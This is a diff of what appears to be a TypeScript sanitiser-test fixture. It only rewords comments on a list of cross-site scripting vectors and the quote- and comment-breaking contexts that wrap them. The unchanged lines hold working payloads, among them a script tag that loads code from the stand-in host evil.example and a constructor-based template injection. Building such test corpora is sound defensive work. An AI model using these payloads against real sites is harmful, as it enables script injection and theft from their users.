@@ -1,4 +1,4 @@
-/** Ways in which markup runs code, fetches from elsewhere, changes the page's looks or asks for input. */
+/** Markup that runs code, fetches external resources, changes the page's look or asks for input. */
 const vectors = [
   "<script>alert(1)</script>",
   "<script src=//evil.example/x.js></script>",
@@ -92,7 +92,7 @@ const vectors = [
   "{{constructor.constructor('alert(1)')()}}<b>${alert(1)}</b>",
 ];
 
-/** Where a vector may stand: alone, inside what is allowed, inside quotes, broken open, repeated, or encoded once. */
+/** Surroundings of a vector: alone, inside allowed markup, inside quotes, broken open, repeated, or encoded once. */
 const contexts: readonly ((vector: string) => string)[] = [
   (vector) => vector,
   (vector) => `<b>${vector}</b>`,
@@ -104,5 +104,5 @@ const contexts: readonly ((vector: string) => string)[] = [
   (vector) => `"'>${vector}<!--`,
 ];
 
-/** Every vector in every context: several hundred hostile texts for whatever cleans markup. */
+/** Every vector in every context: several hundred hostile texts for testing sanitisers. */
 export const markupAttacks: readonly string[] = vectors.flatMap((vector) => contexts.map((place) => place(vector)));
